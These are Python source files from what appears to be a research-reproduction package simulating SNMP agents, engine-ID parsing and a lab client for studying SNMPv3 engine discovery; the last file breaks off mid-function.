        self.engine_id = engine_id
        self.boot_time = boot_time
        self.engine_boots = engine_boots
        self.behavior = behavior or AgentBehavior()
        self.communities = set(communities)
        self.users = {user.name: user for user in users}
        self.mib = mib or Mib()
        # usmStats counters the agent maintains.
        self.stats_unknown_engine_ids = 0
        self.stats_unknown_user_names = 0
        self.stats_wrong_digests = 0
        # Requests handled since boot (drives reboot_after_handles).
        self.handled_count = 0
        # Cached discovery Report template (the scan-reply fast path);
        # rebuilt whenever the reported engine ID or boots counter moves.
        self._report_template: "DiscoveryReportTemplate | None" = None

    # -- lifecycle -----------------------------------------------------------

    def reboot(self, now: float) -> None:
        """Restart the SNMP engine: bump boots, reset engine time."""
        self.engine_boots += 1
        self.boot_time = now

    def engine_time(self, now: float) -> int:
        """Seconds since last boot, as the (possibly skewed) agent reports it.

        Per RFC 3414 §2.2.2, the engine-time counter is capped at
        2^31 - 1; when it would overflow, the engine increments its boots
        counter and restarts the clock — modelled lazily here so agents
        with decade-long uptimes stay protocol-conformant.
        """
        if self.behavior.report_zero_time:
            return 0
        elapsed = max(0.0, now - self.boot_time)
        skewed = elapsed * (1.0 + self.behavior.clock_skew)
        value = int(skewed) + self.behavior.future_time_offset
        while value > constants.ENGINE_TIME_MAX and not self.behavior.future_time_offset:
            self.engine_boots += 1
            self.boot_time += constants.ENGINE_TIME_MAX + 1
            elapsed = max(0.0, now - self.boot_time)
            value = int(elapsed * (1.0 + self.behavior.clock_skew))
        resolution = max(1, self.behavior.time_resolution)
        return (value // resolution) * resolution

    @property
    def response_delay(self) -> float:
        """Extra virtual seconds this agent takes to produce any reply.

        The fabric reads this off the bound handler's owner and adds it to
        every reply's arrival time — a slow responder whose answers can
        overrun the executor's per-probe timeout.
        """
        return self.behavior.response_delay

    @property
    def v3_active(self) -> bool:
        """Whether v3 answers discovery — directly enabled, or implicitly via
        a configured community string (the Cisco lab finding)."""
        if self.behavior.v3_enabled:
            return True
        return self.behavior.v3_enabled_by_community and bool(self.communities)

    # -- datagram entry point --------------------------------------------------

    def handle_datagram(self, datagram: Datagram, now: float) -> list[bytes]:
        """Fabric adapter: dispatch on the payload."""
        return self.handle(datagram.payload, now)

    def handle(self, payload: bytes, now: float) -> list[bytes]:
        """Process one SNMP datagram payload; return zero or more replies."""
        try:
            version = peek_version(payload)
        except ber.BerDecodeError:
            return []
        self.handled_count += 1
        if (
            self.behavior.reboot_after_handles
            and self.handled_count % self.behavior.reboot_after_handles == 0
        ):
            # Mid-scan reboot: boots bump and engine time resets *before*
            # this request is answered, exactly like a crashing engine
            # that restarts under probe load.
            self.reboot(now)
        if version in (constants.VERSION_1, constants.VERSION_2C):
            reply = self._handle_community(payload)
        elif version == constants.VERSION_3:
            reply = self._handle_v3(payload, now)
        else:
            reply = None
        if reply is None:
            return []
        return self._finalize_reply(reply)

    def handle_discovery(
        self,
        payload: bytes,
        msg_id: int,
        request_id: int,
        now: float,
        source: "object | None" = None,
    ) -> list[bytes]:
        """Hinted entry point for a verbatim, uncorrupted discovery probe.

        The batch probe pipeline already knows the msg/request ids it
        encoded into ``payload``, so when the fault fabric delivers the
        packet unmodified the agent can skip ``peek_version`` and
        :func:`match_discovery_probe` entirely.  Behaviour — handled-count
        accounting, mid-scan reboots, v3 gating, usmStats, adversarial
        reply mangling — is identical to :meth:`handle`; ``source`` is
        unused here and exists for signature parity with
        :meth:`repro.snmp.loadbalancer.AgentPool.handle_discovery`.
        """
        self.handled_count += 1
        behavior = self.behavior
        if (
            behavior.reboot_after_handles
            and self.handled_count % behavior.reboot_after_handles == 0
        ):
            self.reboot(now)
        if not self.v3_active:
            return []
        return self._finalize_reply(
            self._fast_discovery_report((msg_id, request_id), now)
        )

    def _finalize_reply(self, reply: bytes) -> list[bytes]:
        """Apply the adversarial reply personalities and amplification."""
        if self.behavior.garbage_reports:
            # Deterministically garbled: same length, every byte inverted —
            # never valid BER, but clearly "a response arrived".
            reply = bytes(b ^ 0xFF for b in reply)
        elif self.behavior.malformed:
            # Truncate mid-TLV: parseable as "a response arrived" but the
            # engine ID cannot be extracted.
            return [reply[: max(4, len(reply) // 3)]]
        return [reply] * max(1, self.behavior.amplification_count)

    # -- v1 / v2c ---------------------------------------------------------------

    def _handle_community(self, payload: bytes) -> "bytes | None":
        if not self.behavior.v2c_enabled or not self.communities:
            return None
        try:
            message = CommunityMessage.decode(payload)
        except ber.BerDecodeError:
            return None
        if message.community not in self.communities:
            # Wrong community: silence, as real agents do.
            return None
        if message.pdu.tag == constants.TAG_GET_REQUEST:
            varbinds, error_status, error_index = self._resolve(message.pdu.varbinds, 0.0)
        elif message.pdu.tag == constants.TAG_GET_NEXT_REQUEST:
            varbinds, error_status, error_index = self._resolve_next(message.pdu.varbinds, 0.0)
        elif (message.pdu.tag == constants.TAG_GET_BULK_REQUEST
              and message.version == constants.VERSION_2C):
            varbinds, error_status, error_index = self._resolve_bulk(message.pdu, 0.0)
        else:
            return None
        reply = CommunityMessage(
            version=message.version,
            community=message.community,
            pdu=pdu_mod.response(
                message.pdu.request_id, varbinds, error_status, error_index
            ),
        )
        return reply.encode()

    # -- v3 ----------------------------------------------------------------------

    def _handle_v3(self, payload: bytes, now: float) -> "bytes | None":
        if not self.v3_active:
            return None
        probe = match_discovery_probe(payload)
        if probe is not None:
            return self._fast_discovery_report(probe, now)
        try:
            message = SnmpV3Message.decode(payload)
        except ber.BerDecodeError:
            return None
        if message.security_model != constants.SECURITY_MODEL_USM:
            return None
        if not message.security.engine_id:
            # Discovery: the unauthenticated synchronization exchange.
            if not message.is_reportable:
                return None
            self.stats_unknown_engine_ids += 1
            return self._report(
                message,
                constants.OID_USM_STATS_UNKNOWN_ENGINE_IDS,
                self.stats_unknown_engine_ids,
                now,
            )
        if message.security.engine_id != self._reported_engine_id():
            # Wrong engine ID: also answered with unknownEngineIDs.
            self.stats_unknown_engine_ids += 1
            return self._report(
                message,
                constants.OID_USM_STATS_UNKNOWN_ENGINE_IDS,
                self.stats_unknown_engine_ids,
                now,
            )
        user = self.users.get(message.security.user_name)
        if user is None:
            # The lab observation: unknown user, but the Report still
            # carries the real engine ID.
            self.stats_unknown_user_names += 1
            return self._report(
                message,
                constants.OID_USM_STATS_UNKNOWN_USER_NAMES,
                self.stats_unknown_user_names,
                now,
            )
        if message.is_authenticated:
            if not self._verify_auth(payload, message, user):
                self.stats_wrong_digests += 1
                return self._report(
                    message,
                    constants.OID_USM_STATS_WRONG_DIGESTS,
                    self.stats_wrong_digests,
                    now,
                )
        scoped = message.scoped_pdu
        if message.is_encrypted:
            if not user.has_privacy or len(message.security.priv_params) != 8:
                return None
            priv_key = privacy_key_from_password(
                user.priv_password, self._reported_engine_id(), user.auth_protocol
            )
            try:
                plaintext = decrypt_scoped_pdu(
                    priv_key,
                    message.security.engine_boots,
                    message.security.engine_time,
                    message.security.priv_params,
                    message.encrypted_pdu or b"",
                )
                scoped, __ = ScopedPdu.decode(plaintext, 0)
            except ber.BerDecodeError:
                # Garbled ciphertext: decryption error report.
                return self._report(
                    message,
                    constants.OID_USM_STATS_DECRYPTION_ERRORS,
                    1,
                    now,
                )
        if scoped is None:
            return None
        request = scoped.pdu
        if request.tag == constants.TAG_GET_REQUEST:
            varbinds, error_status, error_index = self._resolve(request.varbinds, now)
        elif request.tag == constants.TAG_GET_NEXT_REQUEST:
            varbinds, error_status, error_index = self._resolve_next(request.varbinds, now)
        elif request.tag == constants.TAG_GET_BULK_REQUEST:
            varbinds, error_status, error_index = self._resolve_bulk(request, now)
        else:
            return None
        response_pdu = pdu_mod.response(request.request_id, varbinds, error_status, error_index)
        response_scoped = ScopedPdu(
            context_engine_id=self._reported_engine_id(),
            context_name=b"",
            pdu=response_pdu,
        )
        boots = self.engine_boots
        etime = self.engine_time(now)
        if message.is_encrypted:
            salt = self._next_salt()
            priv_key = privacy_key_from_password(
                user.priv_password, self._reported_engine_id(), user.auth_protocol
            )
            ciphertext = encrypt_scoped_pdu(
                priv_key, boots, etime, salt, response_scoped.encode()
            )
            reply = SnmpV3Message(
                msg_id=message.msg_id,
                flags=message.flags & ~constants.FLAG_REPORTABLE,
                security=UsmSecurityParameters(
                    engine_id=self._reported_engine_id(),
                    engine_boots=boots,
                    engine_time=etime,
                    user_name=message.security.user_name,
                    priv_params=salt,
                ),
                encrypted_pdu=ciphertext,
            )
        else:
            reply = SnmpV3Message(
                msg_id=message.msg_id,
                flags=message.flags & ~constants.FLAG_REPORTABLE,
                security=UsmSecurityParameters(
                    engine_id=self._reported_engine_id(),
                    engine_boots=boots,
                    engine_time=etime,
                    user_name=message.security.user_name,
                ),
                scoped_pdu=response_scoped,
            )
        if message.is_authenticated:
            return _sign_message(reply, self.users[message.security.user_name])
        return reply.encode()

    def _next_salt(self) -> bytes:
        """Monotonic 64-bit privacy salt (RFC 3826 §3.1.1.1)."""
        self._salt_counter = getattr(self, "_salt_counter", 0) + 1
        return self._salt_counter.to_bytes(8, "big")

    def _reported_engine_id(self) -> bytes:
        if self.behavior.report_empty_engine_id:
            return b""
        raw = self.engine_id.raw
        pad_to = self.behavior.engine_id_pad_to
        if pad_to > 0:
            # Oversized (zero-padded past 32 octets) or undersized
            # (truncated below the RFC 3411 minimum) engine IDs, as
            # non-conforming firmware ships them.
            return raw[:pad_to].ljust(pad_to, b"\x00")
        return raw

    def _fast_discovery_report(self, probe: "tuple[int, int]", now: float) -> bytes:
        """Answer a structurally matched discovery probe from the cached
        Report template, splicing in only the per-probe integers.

        Byte-identical to decoding the probe and running :meth:`_report`
        (the property test in ``tests/snmp/test_report_fast_path.py``
        asserts it), but skips the full BER decode and the message-object
        re-encode — the two hottest allocations of an Internet-wide scan.
        """
        self.stats_unknown_engine_ids += 1
        # Boots must be read *before* engine_time(): an overflowing engine
        # time lazily bumps the boots counter, and the slow path evaluates
        # the boots keyword argument first.
        boots = 0 if self.behavior.report_zero_time else self.engine_boots
        engine_time = self.engine_time(now)
        engine_id = self._reported_engine_id()
        template = self._report_template
        if (
            template is None
            or template.engine_id != engine_id
            or template.engine_boots != boots
        ):
            template = DiscoveryReportTemplate(engine_id, boots)
            self._report_template = template
        msg_id, request_id = probe
        return template.render(
            msg_id=msg_id,
            request_id=request_id,
            engine_time=engine_time,
            counter_value=self.stats_unknown_engine_ids,
        )

    def _report(
        self, request: SnmpV3Message, counter_oid: Oid, counter_value: int, now: float
    ) -> bytes:
        request_id = (
            request.scoped_pdu.pdu.request_id if request.scoped_pdu is not None else request.msg_id
        )
        report_pdu = pdu_mod.report(request_id, counter_oid, counter_value)
        reply = SnmpV3Message(
            msg_id=request.msg_id,
            flags=0,
            security=UsmSecurityParameters(
                engine_id=self._reported_engine_id(),
                engine_boots=0 if self.behavior.report_zero_time else self.engine_boots,
                engine_time=self.engine_time(now),
            ),
            scoped_pdu=ScopedPdu(
                context_engine_id=self._reported_engine_id(),
                context_name=b"",
                pdu=report_pdu,
            ),
        )
        return reply.encode()

    # -- MIB access ------------------------------------------------------------

    def _resolve(
        self, varbinds: "tuple[pdu_mod.VarBind, ...]", now: float
    ) -> "tuple[tuple[pdu_mod.VarBind, ...], int, int]":
        resolved = []
        for index, varbind in enumerate(varbinds, start=1):
            value = self.mib.get(varbind.name, now)
            if value is None:
                return tuple(varbinds), constants.ERR_NO_SUCH_NAME, index
            resolved.append(pdu_mod.VarBind(varbind.name, value))
        return tuple(resolved), constants.ERR_NO_ERROR, 0

    def _resolve_next(
        self, varbinds: "tuple[pdu_mod.VarBind, ...]", now: float
    ) -> "tuple[tuple[pdu_mod.VarBind, ...], int, int]":
        resolved = []
        for index, varbind in enumerate(varbinds, start=1):
            entry = self.mib.get_next(varbind.name, now)
            if entry is None:
                return tuple(varbinds), constants.ERR_NO_SUCH_NAME, index
            resolved.append(pdu_mod.VarBind(entry[0], entry[1]))
        return tuple(resolved), constants.ERR_NO_ERROR, 0

    def _resolve_bulk(
        self, request: pdu_mod.Pdu, now: float
    ) -> "tuple[tuple[pdu_mod.VarBind, ...], int, int]":
        """GetBulk (RFC 3416 §4.2.3): the PDU's error-status field carries
        non-repeaters, error-index carries max-repetitions.  Exhausted
        columns simply stop producing rows (endOfMibView simplified)."""
        non_repeaters = max(0, request.error_status)
        max_repetitions = max(0, request.error_index)
        resolved: list[pdu_mod.VarBind] = []
        for varbind in request.varbinds[:non_repeaters]:
            entry = self.mib.get_next(varbind.name, now)
            if entry is not None:
                resolved.append(pdu_mod.VarBind(entry[0], entry[1]))
        repeaters = list(request.varbinds[non_repeaters:])
        cursors = [vb.name for vb in repeaters]
        for __ in range(max_repetitions):
            advanced = False
            for i, cursor in enumerate(cursors):
                if cursor is None:
                    continue
                entry = self.mib.get_next(cursor, now)
                if entry is None:
                    cursors[i] = None
                    continue
                resolved.append(pdu_mod.VarBind(entry[0], entry[1]))
                cursors[i] = entry[0]
                advanced = True
            if not advanced:
                break
        return tuple(resolved), constants.ERR_NO_ERROR, 0

    # -- authentication ----------------------------------------------------------

    def _verify_auth(self, payload: bytes, message: SnmpV3Message, user: UsmUser) -> bool:
        received = message.security.auth_params
        if len(received) != len(_ZEROED_MAC):
            return False
        zeroed = payload.replace(received, _ZEROED_MAC, 1)
        key = localized_key_from_password(
            user.password, self._reported_engine_id(), user.auth_protocol
        )
        expected = compute_mac(key, zeroed, user.auth_protocol)
        return expected == received


def _sign_message(message: SnmpV3Message, user: UsmUser) -> bytes:
    """Serialize with a zeroed MAC field, compute HMAC, splice it in."""
    placeholder = replace(
        message, security=replace(message.security, auth_params=_ZEROED_MAC)
    )
    blob = placeholder.encode()
    key = localized_key_from_password(
        user.password, message.security.engine_id, user.auth_protocol
    )
    mac = compute_mac(key, blob, user.auth_protocol)
    return blob.replace(_ZEROED_MAC, mac, 1)
