"""A minimal MIB: the MIB-II system group plus usmStats counters.

Enough of a management information base for the lab-validation experiment
(§6.2.1 queries ``sysDescr`` over v2c and v3) and for the agent's Report
generation.  Values are stored against exact instance OIDs; ``get-next``
walks the sorted OID space, which is all the client side needs.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Callable

if TYPE_CHECKING:  # agent.py imports this module; keep the cycle type-only
    from repro.snmp.agent import SnmpAgent

from repro.asn1.oid import Oid
from repro.snmp import constants
from repro.snmp.pdu import TimeTicks, VarValue

#: A MIB entry is either a static value or a callable evaluated at query
#: time with the current simulation time (for sysUpTime-style values).
MibValue = Callable[[float], VarValue] | VarValue


@dataclass
class Mib:
    """An OID-addressable value store."""

    entries: dict[Oid, MibValue] = field(default_factory=dict)

    def set(self, oid: Oid, value: MibValue) -> None:
        """Register a static value or a time-dependent callable."""
        self.entries[oid] = value

    def get(self, oid: Oid, now: float) -> "VarValue | None":
        """Resolve an exact instance OID; ``None`` for noSuchObject."""
        entry = self.entries.get(oid)
        if callable(entry):
            return entry(now)
        return entry

    def get_next(self, oid: Oid, now: float) -> "tuple[Oid, VarValue] | None":
        """Return the first (oid, value) strictly after ``oid`` in tree order."""
        candidates = sorted(key for key in self.entries if key > oid)
        if not candidates:
            return None
        next_oid = candidates[0]
        return next_oid, self.get(next_oid, now)

    def __len__(self) -> int:
        return len(self.entries)


def install_engine_group(mib: "Mib", agent: "SnmpAgent") -> None:
    """Install the snmpEngine group, live-wired to the agent's state.

    An authenticated manager can then read the same identity discovery
    leaks — boots and time via the MIB rather than the USM header.
    """
    mib.set(constants.OID_SNMP_ENGINE_ID, agent.engine_id.raw)
    mib.set(constants.OID_SNMP_ENGINE_BOOTS, lambda now: agent.engine_boots)
    mib.set(constants.OID_SNMP_ENGINE_TIME, lambda now: agent.engine_time(now))
    mib.set(constants.OID_SNMP_ENGINE_MAX_SIZE, constants.DEFAULT_MAX_SIZE)


def build_system_mib(
    sys_descr: str,
    sys_name: str,
    sys_object_id: Oid,
    boot_time_getter: Callable[[], float],
) -> Mib:
    """Build a system-group MIB for an agent.

    ``sysUpTime`` is live: TimeTicks (hundredths of a second) since the
    agent's last boot, computed from the agent's boot time at query time.
    """
    mib = Mib()
    mib.set(constants.OID_SYS_DESCR, sys_descr.encode())
    mib.set(constants.OID_SYS_OBJECT_ID, sys_object_id)
    mib.set(
        constants.OID_SYS_UPTIME,
        lambda now: TimeTicks(max(0, int((now - boot_time_getter()) * 100))),
    )
    mib.set(constants.OID_SYS_CONTACT, b"")
    mib.set(constants.OID_SYS_NAME, sys_name.encode())
    mib.set(constants.OID_SYS_LOCATION, b"")
    mib.set(constants.OID_SYS_SERVICES, 72)
    return mib
