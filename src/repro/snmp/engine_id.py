"""SNMP engine-ID formats (RFC 3411 §5, SnmpEngineID TEXTUAL-CONVENTION).

An engine ID is 5–32 octets.  Two encodings exist:

* **RFC 3411-conforming** — the most-significant bit of the first octet is
  set; octets 1–4 hold ``0x80000000 | enterprise_number``; octet 5 is the
  *format* byte; the remainder is format-specific data:

  ========  =======================  ==================
  format    meaning                  data length
  ========  =======================  ==================
  1         IPv4 address             4 octets
  2         IPv6 address             16 octets
  3         MAC address              6 octets
  4         administratively
            assigned text            1–27 octets
  5         administratively
            assigned octets          1–27 octets
  6–127     reserved                 —
  128–255   enterprise-specific      1–27 octets
  ========  =======================  ==================

* **legacy / non-conforming** — the MSB is clear; RFC 1910 style twelve
  raw octets (enterprise number + anything).  The paper calls these
  "non-SNMPv3-conforming"; they carry no format byte.

:class:`EngineId` parses both and classifies the result into the buckets
of the paper's Figure 5.  Net-SNMP's enterprise-specific format (an
enterprise number of 8072 with a format byte ≥ 128) is detected separately
because it is the single largest software implementation in the wild.
"""

from __future__ import annotations

import enum
import ipaddress
from dataclasses import dataclass
from functools import cached_property

from repro.net.addresses import IPAddress
from repro.net.mac import MacAddress
from repro.oui.enterprise import enterprise_name, enterprise_number

MIN_LENGTH = 5
MAX_LENGTH = 32

_NET_SNMP_ENTERPRISE = 8072
# Net-SNMP derives its default engine ID from a random integer (format 128)
# or from creation time + random (format 3 is also possible when configured
# with a MAC); we model the default random flavour.
NET_SNMP_FORMAT_RANDOM = 128


class EngineIdFormat(enum.Enum):
    """Classification buckets used throughout the paper (Figure 5)."""

    IPV4 = "IPv4"
    IPV6 = "IPv6"
    MAC = "MAC"
    TEXT = "Text"
    OCTETS = "Octets"
    NET_SNMP = "Net-SNMP"
    ENTERPRISE_SPECIFIC = "Enterprise-specific"
    RESERVED = "Reserved"
    NON_CONFORMING = "Non-conforming"


@dataclass(frozen=True)
class EngineId:
    """A parsed SNMP engine ID.

    ``raw`` is the wire value.  All derived views (conformance, enterprise
    number, format classification, embedded MAC or IP) are lazy properties
    so that bulk pipelines only pay for what they read.
    """

    raw: bytes

    # -- constructors -------------------------------------------------------

    @classmethod
    def from_mac(cls, enterprise: int, mac: MacAddress) -> "EngineId":
        """Build a conforming MAC-format engine ID (format 3)."""
        return cls(_header(enterprise, 3) + mac.packed)

    @classmethod
    def from_ipv4(cls, enterprise: int, address: "ipaddress.IPv4Address") -> "EngineId":
        """Build a conforming IPv4-format engine ID (format 1)."""
        return cls(_header(enterprise, 1) + address.packed)

    @classmethod
    def from_ipv6(cls, enterprise: int, address: "ipaddress.IPv6Address") -> "EngineId":
        """Build a conforming IPv6-format engine ID (format 2)."""
        return cls(_header(enterprise, 2) + address.packed)

    @classmethod
    def from_text(cls, enterprise: int, text: str) -> "EngineId":
        """Build a conforming text-format engine ID (format 4)."""
        data = text.encode("ascii")
        if not 1 <= len(data) <= 27:
            raise ValueError(f"text data must be 1..27 bytes, got {len(data)}")
        return cls(_header(enterprise, 4) + data)

    @classmethod
    def from_octets(cls, enterprise: int, data: bytes) -> "EngineId":
        """Build a conforming octets-format engine ID (format 5)."""
        if not 1 <= len(data) <= 27:
            raise ValueError(f"octets data must be 1..27 bytes, got {len(data)}")
        return cls(_header(enterprise, 5) + bytes(data))

    @classmethod
    def net_snmp_random(cls, random_bytes: bytes) -> "EngineId":
        """Build Net-SNMP's default engine ID (enterprise 8072, format 128)."""
        if len(random_bytes) != 8:
            raise ValueError("Net-SNMP random engine IDs carry 8 data bytes")
        return cls(_header(_NET_SNMP_ENTERPRISE, NET_SNMP_FORMAT_RANDOM) + random_bytes)

    @classmethod
    def legacy(cls, enterprise: int, data: bytes) -> "EngineId":
        """Build a non-conforming (RFC 1910 style) engine ID.

        Twelve octets: the enterprise number with the MSB *clear*, then
        eight vendor-defined octets.
        """
        if len(data) != 8:
            raise ValueError("legacy engine IDs carry 8 data bytes")
        if not 0 <= enterprise < 1 << 31:
            raise ValueError(f"enterprise number out of range: {enterprise}")
        return cls(enterprise.to_bytes(4, "big") + bytes(data))

    # -- structure -----------------------------------------------------------

    @property
    def is_valid_length(self) -> bool:
        """RFC 3411 requires 5..32 octets."""
        return MIN_LENGTH <= len(self.raw) <= MAX_LENGTH

    @property
    def is_conforming(self) -> bool:
        """True when the MSB flags RFC 3411 structure (and length permits)."""
        return len(self.raw) >= MIN_LENGTH and bool(self.raw[0] & 0x80)

    @cached_property
    def enterprise(self) -> "int | None":
        """The IANA enterprise number, for either encoding; None if too short."""
        if len(self.raw) < 4:
            return None
        return int.from_bytes(self.raw[:4], "big") & 0x7FFFFFFF

    @property
    def enterprise_vendor(self) -> "str | None":
        """Vendor registered under :attr:`enterprise`, if any."""
        if self.enterprise is None:
            return None
        return enterprise_name(self.enterprise)

    @property
    def format_byte(self) -> "int | None":
        """The raw format octet for conforming IDs, else ``None``."""
        if not self.is_conforming:
            return None
        return self.raw[4]

    @property
    def data(self) -> bytes:
        """Format-specific data (conforming) or trailing bytes (legacy)."""
        if self.is_conforming:
            return self.raw[5:]
        return self.raw[4:]

    @cached_property
    def format(self) -> EngineIdFormat:
        """Classify into the paper's Figure 5 buckets."""
        if not self.is_conforming:
            return EngineIdFormat.NON_CONFORMING
        fmt = self.raw[4]
        data = self.raw[5:]
        if fmt == 1 and len(data) == 4:
            return EngineIdFormat.IPV4
        if fmt == 2 and len(data) == 16:
            return EngineIdFormat.IPV6
        if fmt == 3 and len(data) == 6:
            return EngineIdFormat.MAC
        if fmt == 4:
            return EngineIdFormat.TEXT
        if fmt == 5:
            return EngineIdFormat.OCTETS
        if fmt >= 128:
            if self.enterprise == _NET_SNMP_ENTERPRISE:
                return EngineIdFormat.NET_SNMP
            return EngineIdFormat.ENTERPRISE_SPECIFIC
        return EngineIdFormat.RESERVED

    # -- embedded identifiers -------------------------------------------------

    @cached_property
    def mac(self) -> "MacAddress | None":
        """The embedded MAC for MAC-format IDs, else ``None``."""
        if self.format is EngineIdFormat.MAC:
            return MacAddress(self.data)
        return None

    @cached_property
    def ip(self) -> "IPAddress | None":
        """The embedded IP for IPv4/IPv6-format IDs, else ``None``."""
        if self.format is EngineIdFormat.IPV4:
            return ipaddress.IPv4Address(self.data)
        if self.format is EngineIdFormat.IPV6:
            return ipaddress.IPv6Address(self.data)
        return None

    @property
    def text(self) -> "str | None":
        """The embedded text for text-format IDs, else ``None``."""
        if self.format is EngineIdFormat.TEXT:
            return self.data.decode("ascii", errors="replace")
        return None

    def hamming_weight(self) -> int:
        """Number of '1' bits in the raw value (randomness analysis, Fig. 6)."""
        return sum(bin(b).count("1") for b in self.raw)

    def relative_hamming_weight(self) -> float:
        """Fraction of bits set to '1'."""
        if not self.raw:
            raise ValueError("empty engine ID has no Hamming weight")
        return self.hamming_weight() / (len(self.raw) * 8)

    # -- dunder ----------------------------------------------------------------

    def __len__(self) -> int:
        return len(self.raw)

    def __bool__(self) -> bool:
        return bool(self.raw)

    def __str__(self) -> str:
        return "0x" + self.raw.hex()

    def __repr__(self) -> str:
        return f"EngineId({str(self)})"


def _header(enterprise: int, format_byte: int) -> bytes:
    if not 0 <= enterprise < 1 << 31:
        raise ValueError(f"enterprise number out of range: {enterprise}")
    if not 0 <= format_byte <= 0xFF:
        raise ValueError(f"format byte out of range: {format_byte}")
    return (0x80000000 | enterprise).to_bytes(4, "big") + bytes([format_byte])


def engine_id_for_vendor_mac(vendor: str, mac: MacAddress) -> EngineId:
    """Convenience: conforming MAC engine ID under the vendor's enterprise number."""
    return EngineId.from_mac(enterprise_number(vendor), mac)
