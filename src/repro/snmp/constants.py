"""Protocol constants shared across the SNMP implementation."""

from __future__ import annotations

from repro.asn1.oid import Oid

# msgVersion values on the wire.
VERSION_1 = 0
VERSION_2C = 1
VERSION_3 = 3

# Context-class constructed tags for PDU types (RFC 3416).
TAG_GET_REQUEST = 0xA0
TAG_GET_NEXT_REQUEST = 0xA1
TAG_RESPONSE = 0xA2
TAG_SET_REQUEST = 0xA3
TAG_TRAP_V1 = 0xA4
TAG_GET_BULK_REQUEST = 0xA5
TAG_INFORM_REQUEST = 0xA6
TAG_TRAP_V2 = 0xA7
TAG_REPORT = 0xA8

PDU_TAGS = frozenset(
    {
        TAG_GET_REQUEST,
        TAG_GET_NEXT_REQUEST,
        TAG_RESPONSE,
        TAG_SET_REQUEST,
        TAG_TRAP_V1,
        TAG_GET_BULK_REQUEST,
        TAG_INFORM_REQUEST,
        TAG_TRAP_V2,
        TAG_REPORT,
    }
)

# msgFlags bits (RFC 3412 §6.4).
FLAG_AUTH = 0x01
FLAG_PRIV = 0x02
FLAG_REPORTABLE = 0x04

# msgSecurityModel values.
SECURITY_MODEL_USM = 3

# Error-status values (RFC 3416 §3).
ERR_NO_ERROR = 0
ERR_TOO_BIG = 1
ERR_NO_SUCH_NAME = 2
ERR_BAD_VALUE = 3
ERR_READ_ONLY = 4
ERR_GEN_ERR = 5
ERR_NO_ACCESS = 6
ERR_AUTHORIZATION_ERROR = 16

# The default SNMP UDP port.
SNMP_PORT = 161

# usmStats counters (RFC 3414 §6) reported during engine discovery and on
# authentication failures.
OID_USM_STATS_UNSUPPORTED_SEC_LEVELS = Oid("1.3.6.1.6.3.15.1.1.1.0")
OID_USM_STATS_NOT_IN_TIME_WINDOWS = Oid("1.3.6.1.6.3.15.1.1.2.0")
OID_USM_STATS_UNKNOWN_USER_NAMES = Oid("1.3.6.1.6.3.15.1.1.3.0")
OID_USM_STATS_UNKNOWN_ENGINE_IDS = Oid("1.3.6.1.6.3.15.1.1.4.0")
OID_USM_STATS_WRONG_DIGESTS = Oid("1.3.6.1.6.3.15.1.1.5.0")
OID_USM_STATS_DECRYPTION_ERRORS = Oid("1.3.6.1.6.3.15.1.1.6.0")

# MIB-II system group (RFC 3418).
OID_SYS_DESCR = Oid("1.3.6.1.2.1.1.1.0")
OID_SYS_OBJECT_ID = Oid("1.3.6.1.2.1.1.2.0")
OID_SYS_UPTIME = Oid("1.3.6.1.2.1.1.3.0")
OID_SYS_CONTACT = Oid("1.3.6.1.2.1.1.4.0")
OID_SYS_NAME = Oid("1.3.6.1.2.1.1.5.0")
OID_SYS_LOCATION = Oid("1.3.6.1.2.1.1.6.0")
OID_SYS_SERVICES = Oid("1.3.6.1.2.1.1.7.0")

# snmpEngine group (RFC 3411 §5): the engine's own identity over the MIB.
OID_SNMP_ENGINE_ID = Oid("1.3.6.1.6.3.10.2.1.1.0")
OID_SNMP_ENGINE_BOOTS = Oid("1.3.6.1.6.3.10.2.1.2.0")
OID_SNMP_ENGINE_TIME = Oid("1.3.6.1.6.3.10.2.1.3.0")
OID_SNMP_ENGINE_MAX_SIZE = Oid("1.3.6.1.6.3.10.2.1.4.0")

# The engine time field wraps at 2^31 - 1 and increments engine boots
# (RFC 3414 §2.2.2).
ENGINE_TIME_MAX = 2**31 - 1

# Default msgMaxSize our client advertises (matches Net-SNMP's default).
DEFAULT_MAX_SIZE = 65507
