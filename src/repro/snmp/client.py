"""The manager (client) side of SNMP.

Two use cases:

* **Discovery** — what the Internet-wide scanner sends: one unauthenticated
  synchronization request, parse the Report;
* **Lab queries** — the §6.2.1 validation runs v2c community GETs and v3
  authenticated GETs against lab agents, comparing sysDescr and observing
  that discovery works with only a community string configured.
"""

from __future__ import annotations

import itertools
from dataclasses import dataclass

from repro.asn1 import ber
from repro.asn1.oid import Oid
from repro.compat import keyword_only_compat
from repro.snmp import constants, pdu as pdu_mod
from repro.snmp.agent import SnmpAgent, UsmUser
from repro.snmp.messages import (
    CommunityMessage,
    ScopedPdu,
    SnmpV3Message,
    UsmSecurityParameters,
    build_discovery_probe,
    parse_discovery_response,
)
from repro.snmp.pdu import VarValue
from repro.snmp.usm import (
    compute_mac,
    decrypt_scoped_pdu,
    encrypt_scoped_pdu,
    localized_key_from_password,
    privacy_key_from_password,
)

_ZEROED_MAC = b"\x00" * 12


@dataclass(frozen=True)
class DiscoveryResult:
    """What one discovery exchange yields."""

    engine_id: bytes
    engine_boots: int
    engine_time: int


@keyword_only_compat("agent")
class SnmpClient:
    """A direct (in-process) SNMP manager for lab experiments.

    ``agent`` is queried synchronously; ``now`` advances under caller
    control so uptime-sensitive tests are deterministic.

    Arguments are keyword-only; the positional ``SnmpClient(agent)``
    form is deprecated but still accepted.
    """

    def __init__(self, *, agent: "SnmpAgent | None" = None) -> None:
        if agent is None:
            raise TypeError("SnmpClient requires an agent")
        self._agent = agent
        self._msg_ids = itertools.count(1)

    # -- discovery -------------------------------------------------------------

    def discover(self, now: float) -> "DiscoveryResult | None":
        """Run the unauthenticated synchronization exchange."""
        probe = build_discovery_probe(next(self._msg_ids))
        replies = self._agent.handle(probe.encode(), now)
        if not replies:
            return None
        try:
            parsed = parse_discovery_response(replies[0])
        except ber.BerDecodeError:
            return None
        return DiscoveryResult(
            engine_id=parsed.engine_id,
            engine_boots=parsed.engine_boots,
            engine_time=parsed.engine_time,
        )

    # -- v2c -------------------------------------------------------------------

    def get_v2c(self, community: bytes, oid: Oid, now: float = 0.0) -> "VarValue | None":
        """Community GET; returns the value or ``None`` on error/silence."""
        request = CommunityMessage(
            version=constants.VERSION_2C,
            community=community,
            pdu=pdu_mod.get_request(next(self._msg_ids), oid),
        )
        replies = self._agent.handle(request.encode(), now)
        if not replies:
